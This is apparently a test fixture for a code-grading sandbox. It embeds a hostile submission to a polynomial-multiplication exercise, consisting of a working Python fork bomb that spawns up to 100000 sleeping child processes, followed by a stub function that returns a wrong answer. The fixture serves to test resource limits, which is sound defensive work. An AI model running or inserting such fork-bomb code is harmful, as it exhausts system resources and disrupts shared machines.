"""A fork bomb: children that sleep for ten minutes, as many as the system gives (bounded by the process limit)."""
SET = "03-polynomial"
CELL = "poly-multiply-answer"
EXERCISE = "poly-multiply"
B64 = False
SOURCE = r'''
import os
import time

_children = 0
try:
    while _children < 100000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        _children += 1
    print(f"ATTACK: forked {_children} processes, no limit")
except OSError as exc:
    print(f"ATTACK: the fork bomb stopped after {_children} processes ({exc})")


def poly_multiply(p, q):
    return [0]
'''
